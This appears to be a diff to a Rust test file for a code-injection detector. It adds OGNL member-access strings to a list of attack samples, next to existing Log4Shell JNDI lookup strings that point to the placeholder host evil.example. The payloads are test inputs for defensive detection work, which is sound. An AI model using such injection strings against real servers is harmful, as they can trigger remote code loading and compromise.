@@ -16,6 +16,10 @@ fn detector() -> CodeInjection {
 }
 
 const ATTACKS: &[&str] = &[
+    // OGNL's member-access constant alone (it had no needle of its own).
+    "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
+    "(#dm=DEFAULT_MEMBER_ACCESS)",
+    "DEFAULT_MEMBER_ACCESS",
     // Log4Shell.
     "${jndi:ldap://evil.example/a}",
     "${jndi:ldaps://evil.example/a}",
